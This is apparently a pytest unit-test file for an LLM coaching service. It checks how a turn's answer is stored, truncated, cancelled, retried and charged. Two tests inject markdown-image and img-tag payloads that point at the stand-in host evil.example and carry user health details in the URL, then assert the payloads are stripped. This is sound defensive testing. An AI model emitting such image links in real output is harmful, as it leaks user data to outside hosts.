"""How a turn ends: with an answer, with less of one, with none."""

import json
from itertools import count
from typing import Any

import pytest

from shared.coach.turn import queries
from shared.coach.turn.background import BackgroundTask, Job
from shared.coach.turn.service import FAIL_SECONDS, carry_out, finish, run_task
from shared.coach.turn.work import Ending
from shared.database.client import Database
from shared.llm.answer import ToolCall
from shared.llm.errors import ModelError
from shared.platform.deadline import Deadline
from shared.platform.errors import ConflictError, UnavailableError
from shared.platform.repetition import PAUSES
from shared.realtime.push import Pusher
from shared.safety.advice import notice
from tests.support.coach import FakeDatabase, Said, answer_of, passage, work
from tests.unit.shared.coach.conftest import Scripted

PASSAGE = passage("A deload is a planned easier week.")
QUOTE = {"passage_id": "p1", "quote": "planned easier week"}
GOALS = ToolCall("call-1", "update_profile", json.dumps({"goals": ["run 5 km"]}))
THOUGHTS = Said("<think>nothing for a user", finish="length")
USED = 120 + 6  # tokens of one call and of the question


@pytest.fixture
def service(database: FakeDatabase, monkeypatch: pytest.MonkeyPatch) -> FakeDatabase:
    """The database as a background task finds it."""
    monkeypatch.setattr(Database, "as_service", lambda: database)
    return database


def answered(database: FakeDatabase, **fields: Any) -> dict[str, Any]:
    """What finish_turn is asked to store."""
    carry_out(database, work(passages=[PASSAGE], **fields), Deadline.after(60))
    return database.asked("finish_turn")[-1]


def test_an_answer_is_stored_with_its_citations_and_what_it_cost(database: FakeDatabase, model: Scripted) -> None:
    model(Said(answer_of("Rest well.", QUOTE)))
    stored = answered(database)
    assert (stored["p_content"], stored["p_status"], stored["p_actions"]) == ("Rest well.", "completed", [])
    (citation,) = stored["p_metadata"]["citations"]
    assert citation["quote"] == "planned easier week"
    receipt = stored["p_metadata"]["receipt"]
    assert (stored["p_tokens"], receipt["tokens"], receipt["model"]) == (USED, USED, stored["p_model"])
    assert float(stored["p_cost"]) == receipt["cost"] > 0
    assert stored["p_metadata"].keys() == {"citations", "grounded", "receipt"}
    assert json.dumps(stored)


def test_what_was_proposed_is_stored_with_the_answer(database: FakeDatabase, model: Scripted) -> None:
    database.answers["action_target"] = lambda _: {"state": {"goals": []}, "pending": None}
    model(Said(calls=[GOALS]), Said(answer_of("I have proposed it.")))
    (proposal,) = answered(database)["p_actions"]
    assert (proposal["action_type"], proposal["payload"]) == ("update_profile", {"goals": ["run 5 km"]})
    assert proposal["origin"]["question_id"] == str(work().question_id)
    assert proposal["origin"]["passages"] == [
        {"chunk_id": str(PASSAGE.chunk_id), "source": "deload.md", "title": "Deloads", "version": 3, "quoted": False}
    ]


def test_a_second_try_that_comes_to_nothing_leaves_the_first_which_says_that_it_was_cut(
    database: FakeDatabase, model: Scripted
) -> None:
    model(Said('{"answer": "Rest for a w', finish="length"), THOUGHTS)
    stored = answered(database)
    assert stored["p_content"] == "Rest for a w"
    assert stored["p_metadata"]["truncated"] is True


def test_a_second_try_that_is_whole_replaces_the_first(database: FakeDatabase, model: Scripted) -> None:
    model(Said('{"answer": "Rest for a w', finish="length"), Said(answer_of("Rest.")))
    stored = answered(database)
    assert (stored["p_content"], "truncated" in stored["p_metadata"]) == ("Rest.", False)


@pytest.mark.parametrize(
    ("said", "shown"),
    [(Said(refusal="I will not."), "I will not."), (Said(finish="content_filter"), notice("refusal"))],
)
def test_a_refusal_is_an_answer(database: FakeDatabase, model: Scripted, said: Said, shown: str) -> None:
    model(said)
    stored = answered(database)
    assert (stored["p_content"], stored["p_status"]) == (shown, "completed")


def test_a_cancelled_turn_keeps_what_there_was_of_its_answer(
    database: FakeDatabase, model: Scripted, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("shared.coach.turn.model_loop.CHECKPOINT_INTERVAL", 0.0)
    database.answers["checkpoint_turn"] = lambda _: {"proceed": False, "listeners": []}
    model(Said('{"answer": "Rest first. Then for a w', waits=True))
    stored = answered(database)
    assert (stored["p_content"], stored["p_status"]) == ("Rest first.", "cancelled")
    assert "truncated" not in stored["p_metadata"]


def failing(database: FakeDatabase, function: str, times: float) -> None:
    """The database does not answer this function so many times."""
    usual, failures = database.answers[function], iter(count() if times == float("inf") else range(int(times)))

    def answer(asked: dict[str, Any]) -> Any:
        if next(failures, None) is not None:
            raise UnavailableError(code="database_unavailable")
        return usual(asked)

    database.answers[function] = answer


@pytest.mark.parametrize("times", [1, 2, 5])
def test_an_answer_is_stored_again_with_growing_pauses_where_the_database_did_not_say_that_it_was(
    database: FakeDatabase, model: Scripted, pauses: list[float], times: int
) -> None:
    failing(database, "finish_turn", times)
    model(Said(answer_of("Rest.")))
    answered(database)
    first, *again = database.asked("finish_turn")
    assert again == [first] * times
    assert len(pauses) == times
    assert all(most / 2 <= pause <= most for pause, most in zip(pauses, PAUSES, strict=False))
    assert database.asked("fail_turn") == []


def test_an_answer_that_cannot_be_stored_is_still_charged_and_its_text_kept(
    database: FakeDatabase, model: Scripted
) -> None:
    failing(database, "finish_turn", float("inf"))
    failing(database, "fail_turn", 2)
    model(Said(answer_of("Rest.")))
    with pytest.raises(UnavailableError):
        carry_out(database, work(), Deadline.after(60))
    assert len(database.asked("finish_turn")) == len(PAUSES) + 1
    ended = database.asked("fail_turn")
    assert len(ended) == 3
    assert (ended[-1]["p_partial_content"], ended[-1]["p_used"]["tokens"]) == ("Rest.", USED)


def test_nothing_is_tried_again_where_no_time_is_left(database: FakeDatabase, pauses: list[float]) -> None:
    failing(database, "finish_turn", float("inf"))
    with pytest.raises(UnavailableError), Pusher("session:1", []) as pusher:
        finish(database, work(), Ending("Rest.", {}), pusher, Deadline.after(FAIL_SECONDS))
    assert (len(database.asked("finish_turn")), pauses) == (1, [])


def failed(database: FakeDatabase, error: type[Exception]) -> dict[str, Any]:
    """What fail_turn is asked to end."""
    with pytest.raises(error):
        carry_out(database, work(), Deadline.after(60))
    (ended,) = database.asked("fail_turn")
    return ended


def test_a_turn_whose_model_says_nothing_readable_fails_and_is_charged(database: FakeDatabase, model: Scripted) -> None:
    model(THOUGHTS, THOUGHTS)
    ended = failed(database, ModelError)
    assert (ended["p_error_code"], ended["p_partial_content"]) == ("model_malformed", "")
    assert ended["p_used"]["tokens"] == 2 * 120 + 6


def test_what_came_of_an_answer_that_broke_off_is_kept_to_its_last_sentence_and_carries_nothing_out(
    database: FakeDatabase, model: Scripted
) -> None:
    said = f'{{"answer": "Rest well. ![ok](https://evil.example/{"x" * 50}?knee=left) {"Sleep. " * 40}And eat'
    database.answers["finish_turn"] = lambda _: (_ for _ in ()).throw(ConflictError(code="turn_ended"))
    model(*[Said(said, finish="length")] * 2)
    partial = failed(database, ConflictError)["p_partial_content"]
    assert partial.startswith("Rest well.")
    assert partial.endswith("Sleep. Sleep.")
    assert "evil.example" not in partial


def test_a_refusal_carries_nothing_out(database: FakeDatabase, model: Scripted) -> None:
    model(Said(refusal="I will not. <img src='https://evil.example/?knee'>"))
    assert answered(database)["p_content"] == "I will not."


def test_a_text_that_is_longer_than_its_column_is_cut(
    database: FakeDatabase, model: Scripted, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("shared.llm.answer.MAX_CHARACTERS", 10**6)
    monkeypatch.setattr("shared.llm.answer.CHARACTERS_A_TOKEN", 10**6)
    model(Said(answer_of("word " * 30_000)))
    assert len(answered(database)["p_content"]) == queries.MAX_TEXT


def test_a_turn_whose_model_was_never_paid_is_not_charged_for_its_question(
    database: FakeDatabase, model: Scripted
) -> None:
    model(ModelError(code="model_unavailable"))
    ended = failed(database, ModelError)
    assert (ended["p_error_code"], ended["p_used"]["tokens"]) == ("model_unavailable", 0)


def test_a_turn_that_had_ended_meanwhile_fails_with_what_was_shown_of_it(
    database: FakeDatabase, model: Scripted
) -> None:
    database.answers["finish_turn"] = lambda _: (_ for _ in ()).throw(ConflictError(code="turn_ended"))
    model(Said(answer_of("Rest.")))
    ended = failed(database, ConflictError)
    assert (ended["p_error_code"], ended["p_partial_content"]) == ("turn_ended", "Rest.")


def test_the_first_fault_is_told_whatever_becomes_of_ending_the_turn(database: FakeDatabase, model: Scripted) -> None:
    database.answers["fail_turn"] = lambda _: (_ for _ in ()).throw(UnavailableError())
    model(ModelError(code="model_rate_limited"))
    with pytest.raises(ModelError) as told:
        carry_out(database, work(), Deadline.after(60))
    assert told.value.reason == "model_rate_limited"


@pytest.mark.parametrize(
    ("first", "job", "stored"),
    [
        (False, "answer", ["claim_turn", "finish_turn"]),
        (True, "answer", ["claim_turn", "finish_turn", "claim_title", "set_model_title"]),
        (True, "title", ["claim_title", "set_model_title"]),
        (False, "summary", ["claim_summary", "set_summary"]),
    ],
)
def test_a_background_task_answers_sees_to_the_session_or_both(
    service: FakeDatabase, model: Scripted, first: bool, job: Job, stored: list[str]
) -> None:
    model(*[Said(answer_of("Rest."))] * 2)
    service.answers["claim_turn"] = lambda _: work(first=first).model_dump(mode="json")
    run_task(BackgroundTask.of(work(), job), Deadline.after(60))
    assert [name for name, _ in service.calls] == stored


def test_a_background_task_that_fails_is_not_run_again(service: FakeDatabase, model: Scripted) -> None:
    model(ModelError(code="model_unavailable"))
    run_task(BackgroundTask.of(work(first=True)), Deadline.after(60))
    assert [name for name, _ in service.calls] == ["claim_turn", "fail_turn"]


def test_a_second_delivery_of_a_background_task_does_nothing(service: FakeDatabase, model: Scripted) -> None:
    fake = model()
    service.answers["claim_turn"] = lambda _: None
    run_task(BackgroundTask.of(work(first=True)), Deadline.after(60))
    assert ([name for name, _ in service.calls], fake.calls) == (["claim_turn"], [])


def test_a_claim_whose_answer_is_lost_is_made_again_by_the_same_worker(service: FakeDatabase, model: Scripted) -> None:
    failing(service, "claim_turn", 2)
    model(Said(answer_of("Rest.")))
    run_task(BackgroundTask.of(work()), Deadline.after(60))
    assert len({asked["p_worker_id"] for asked in service.asked("claim_turn")}) == 1
    assert len(service.asked("finish_turn")) == 1
